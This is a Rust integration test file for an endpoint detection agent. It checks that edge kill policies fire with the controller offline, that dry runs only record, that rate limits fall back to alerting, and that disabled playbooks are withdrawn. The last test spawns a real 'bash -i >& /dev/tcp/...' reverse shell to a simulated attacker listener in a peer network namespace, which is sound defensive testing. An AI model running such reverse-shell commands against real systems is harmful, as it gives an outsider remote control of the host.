//! Edge policies end to end, with the real binaries: a playbook step marked `at: edge` is
//! compiled, signed and pushed to the agent, which kills on its own the moment a matching
//! process starts, with or without its controller, and reports what it did with the event;
//! dry runs only record, the per-minute limit falls back to alert only, and disabling the
//! playbook takes the policy off the host. Every process a policy here may act on is started
//! by the test and carries the test's own marker (every agent sees every exec on the machine).

#![allow(clippy::unwrap_used)] // a failed unwrap is a failed test

use cordon_tests::deploy::{AgentHandle, Deployment, event_line};
use cordon_tests::repo::{apply, detection_config, marker, own_rule};
use cordon_tests::{poll, require_root};
use serde_json::Value;
use std::os::unix::process::ExitStatusExt;
use std::process::{Child, Command, ExitStatus, Stdio};
use std::time::Duration;

fn online(d: &Deployment, extra_config: &str) -> AgentHandle {
    let mut a = d.enroll_agent("edge", &[]);
    if !extra_config.is_empty() {
        a.configure(extra_config);
    }
    d.start_agent(&mut a);
    d.wait_online(&a, true, Duration::from_secs(20));
    a
}

/// A playbook whose only step kills, at the edge, what raises `rule`.
fn edge_playbook(name: &str, rule: &str, dry_run: bool) -> String {
    format!(
        "name: {name}\ndry_run: {dry_run}\ntrigger:\n  rules: [{rule}]\nsteps:\n  - name: kill\n    action: kill_process\n    at: edge\n    on_failure: continue\n"
    )
}

/// The edge policies the agent's last heartbeat reported: (id, version).
fn policies(d: &Deployment, agent: &AgentHandle) -> Vec<(String, u64)> {
    let rec = d.agent_record(&agent.id);
    rec["metrics"]["edge_policies"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .map(|p| {
            let id = p["id"].as_str().unwrap_or_default().to_string();
            (id, p["version"].as_u64().unwrap_or(0))
        })
        .collect()
}

/// Waits until the agent reports policy `id` in force (or, with `present` false, gone);
/// returns its version.
fn wait_policy(d: &Deployment, agent: &AgentHandle, id: &str, present: bool) -> u64 {
    poll(Duration::from_secs(40), || {
        let held = policies(d, agent);
        let found = held.iter().find(|(p, _)| p == id).map(|(_, v)| *v);
        match (present, found) {
            (true, Some(v)) => Some(v),
            (false, None) => Some(0),
            _ => None,
        }
    })
    .unwrap_or_else(|| {
        panic!(
            "policy {id} present={present}: agent holds {:?}",
            policies(d, agent)
        )
    })
}

/// `sh -c 'sleep 30' MARKER`: a process of ours whose command line carries the marker.
fn payload(m: &str) -> Child {
    Command::new("sh")
        .args(["-c", "sleep 30", m])
        .stdin(Stdio::null())
        .spawn()
        .unwrap()
}

fn wait_exit(child: &mut Child) -> Option<ExitStatus> {
    poll(Duration::from_secs(15), || child.try_wait().ok().flatten())
}

/// Kills a payload the policy left alone (it is ours).
fn reap(mut child: Child) {
    let _ = child.kill();
    let _ = child.wait();
}

/// The stored exec (as `events query --json` prints it) whose line carries `m`, once it is
/// stored. The marker is looked for here, never passed to cordonctl: its command line would
/// match the policy.
fn stored_exec(d: &Deployment, agent: &AgentHandle, m: &str) -> Value {
    poll(Duration::from_secs(40), || {
        let out = d.ctl(&[
            "events", "query", "--agent", &agent.id, "--kind", "process", "--limit", "2000",
            "--json",
        ]);
        out.lines()
            .filter(|l| l.contains(m) && event_line(l).summary.starts_with("exec "))
            .find_map(|l| serde_json::from_str(l).ok())
    })
    .unwrap_or_else(|| panic!("the exec carrying {m} was not stored"))
}

/// The edge actions stored with the exec carrying `m`.
fn stored_actions(d: &Deployment, agent: &AgentHandle, m: &str) -> Vec<Value> {
    let exec = stored_exec(d, agent, m);
    exec["edge"].as_array().cloned().unwrap_or_default()
}

fn timeline(d: &Deployment, agent: &AgentHandle, rule: &str, want: &str) -> String {
    poll(Duration::from_secs(40), || {
        let alerts = d.ctl_list(&["alerts", "list", "--agent", &agent.id]);
        let alert = alerts
            .as_array()?
            .iter()
            .find(|a| a["rule_id"] == rule)?
            .clone();
        let inc = d.ctl_json(&["incidents", "show", alert["incident_id"].as_str()?]);
        let text: String = inc["timeline"]
            .as_array()?
            .iter()
            .map(|t| format!("{}\n", t["text"]))
            .collect();
        text.contains(want).then_some(text)
    })
    .unwrap_or_else(|| panic!("no timeline entry {want:?} for {rule}"))
}

#[test]
fn netns_an_edge_policy_kills_with_the_controller_stopped_and_reports_on_reconnect() {
    if !require_root("netns_an_edge_policy_kills_with_the_controller_stopped") {
        return;
    }
    let mut d = Deployment::namespaces(&detection_config(""));
    let agent = online(&d, "");
    let m = marker("edge-offline");
    let rule = own_rule(&d, &m);
    let name = format!("edge-offline-{}", std::process::id());
    apply(&d, &name, &edge_playbook(&name, &rule, false));
    let id = format!("playbook:{name}");
    let version = wait_policy(&d, &agent, &id, true);
    assert!(version >= 1);
    let shown = d.ctl(&["agents", "show", &agent.id]);
    let line = format!("edge policy:    {id} v{version}: 1 rule(s), 1 step(s)");
    assert!(shown.contains(&line), "{shown}");

    d.stop_controller();
    let mut child = payload(&m);
    let status = wait_exit(&mut child).expect("the payload was not killed");
    assert_eq!(status.signal(), Some(9), "{status:?}");

    d.start_controller();
    d.wait_online(&agent, true, Duration::from_secs(30));
    let actions = stored_actions(&d, &agent, &m);
    assert_eq!(actions.len(), 1, "{actions:?}");
    let a = &actions[0];
    assert_eq!(a["policy_id"], id.as_str());
    assert_eq!(
        (a["action"].as_str(), a["outcome"].as_str()),
        (Some("kill_process"), Some("done"))
    );
    assert!(
        a["detail"]
            .as_str()
            .unwrap()
            .contains(&child.id().to_string()),
        "{a}"
    );
    let text = timeline(&d, &agent, &rule, "killed on the host by edge policy");
    assert!(
        text.contains(&format!("edge policy {id} v{version}")),
        "{text}"
    );
}

#[test]
fn netns_edge_dry_runs_record_the_rate_limit_falls_back_and_disabling_withdraws() {
    if !require_root("netns_edge_dry_runs_record_the_rate_limit_falls_back") {
        return;
    }
    let d = Deployment::namespaces(&detection_config(""));
    let agent = online(&d, "[edge]\nmax_actions_per_minute = 1\n");
    let pid = std::process::id();

    // Dry run: the event says what would have been done; the process lives on.
    let dry = marker("edge-dry");
    let dry_rule = own_rule(&d, &dry);
    let dry_name = format!("edge-dry-{pid}");
    apply(&d, &dry_name, &edge_playbook(&dry_name, &dry_rule, true));
    wait_policy(&d, &agent, &format!("playbook:{dry_name}"), true);
    let mut child = payload(&dry);
    let actions = stored_actions(&d, &agent, &dry);
    assert_eq!(actions[0]["outcome"], "dry_run", "{actions:?}");
    assert!(child.try_wait().unwrap().is_none(), "a dry run killed");
    reap(child);

    // One action a minute: the first payload is killed, the second only reported.
    let live = marker("edge-limit");
    let rule = own_rule(&d, &live);
    let name = format!("edge-limit-{pid}");
    apply(&d, &name, &edge_playbook(&name, &rule, false));
    let id = format!("playbook:{name}");
    wait_policy(&d, &agent, &id, true);
    let mut first = payload(&live);
    assert_eq!(wait_exit(&mut first).and_then(|s| s.signal()), Some(9));
    let second_marker = format!("{live}-again");
    let second = payload(&second_marker);
    let actions = stored_actions(&d, &agent, &second_marker);
    assert_eq!(actions[0]["outcome"], "rate_limited", "{actions:?}");
    assert!(
        actions[0]["detail"]
            .as_str()
            .unwrap()
            .contains("alert only")
    );
    let mut second = second;
    assert!(
        second.try_wait().unwrap().is_none(),
        "killed past the limit"
    );
    reap(second);

    // Disabled: the agent drops the policy, and a matching process runs untouched.
    d.ctl(&["playbooks", "disable", &name]);
    wait_policy(&d, &agent, &id, false);
    let third_marker = format!("{live}-after");
    let mut third = payload(&third_marker);
    assert!(stored_actions(&d, &agent, &third_marker).is_empty());
    assert!(third.try_wait().unwrap().is_none());
    reap(third);
}

/// A listener in the peer namespace that, as an attacker would, waits for the shell that
/// connects to speak (its prompt), then asks it to create `file` (the shell's first child,
/// should it live long enough to run it), and keeps the connection open.
fn attacker(
    peer: &str,
    port: u16,
    file: &std::path::Path,
) -> std::thread::JoinHandle<Option<std::net::TcpStream>> {
    let listener =
        cordon_tests::netns::in_netns(peer, move || std::net::TcpListener::bind(("0.0.0.0", port)))
            .unwrap();
    let command = format!("touch {}\n", file.display());
    std::thread::spawn(move || {
        use std::io::{Read, Write};
        listener.set_nonblocking(false).unwrap();
        let (mut s, _) = listener.accept().ok()?;
        s.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
        let mut prompt = [0u8; 256];
        if s.read(&mut prompt).is_ok_and(|n| n > 0) {
            let _ = s.write_all(command.as_bytes());
        }
        Some(s)
    })
}

#[test]
fn netns_a_reverse_shell_matched_by_an_edge_policy_is_killed_before_its_first_command() {
    if !require_root("netns_a_reverse_shell_matched_by_an_edge_policy_is_killed") {
        return;
    }
    let d = Deployment::namespaces_with_peer(&detection_config(""));
    let agent = online(&d, "");
    let rule = cordon_tests::repo::rule_id("reverse_shell_stdio_socket");
    // Only shells talking to this test's port: other tests run reverse shells too.
    let port = 4791;
    let name = format!("edge-rsh-{}", std::process::id());
    let yaml = format!(
        "name: {name}\ntrigger:\n  rules: [{rule}]\n  conditions:\n    event.StdinPeer|endswith: ':{port}'\nsteps:\n  - name: kill\n    action: kill_process\n    at: edge\n"
    );
    apply(&d, &name, &yaml);
    wait_policy(&d, &agent, &format!("playbook:{name}"), true);

    let dir = tempfile::tempdir().unwrap();
    let proof = dir.path().join("first-command-ran");
    let peer = d.peer_ns.as_ref().unwrap().name.clone();
    let connected = attacker(&peer, port, &proof);
    let host = d.agent_ns.as_ref().unwrap();
    let script = format!(
        "bash -i >& /dev/tcp/{}/{port} 0>&1",
        cordon_tests::deploy::PEER_V4
    );
    let mut shell = host
        .command("bash")
        .args(["-c", &script])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let status = wait_exit(&mut shell).expect("the reverse shell was not killed");
    let _held = connected
        .join()
        .unwrap()
        .expect("the shell never connected");
    // bash -c may exec the shell itself (killed: signal 9) or wait for it (137).
    assert!(
        status.signal() == Some(9) || status.code() == Some(137),
        "{status:?}"
    );
    // The shell's exec: the one whose standard streams lead to this port.
    let actions = stored_exec(&d, &agent, &format!(":{port}"));
    let a = &actions["edge"][0];
    assert_eq!(
        (a["action"].as_str(), a["outcome"].as_str()),
        (Some("kill_process"), Some("done")),
        "{actions}"
    );
    let started = actions["process"]["start_time_ms"].as_i64().unwrap();
    println!(
        "exec to killed: {} ms (wall clock, ms resolution); first command ran: {}",
        a["at_ms"].as_i64().unwrap() - started,
        proof.exists()
    );
    assert!(
        !proof.exists(),
        "the shell ran its first command before it was killed"
    );
}
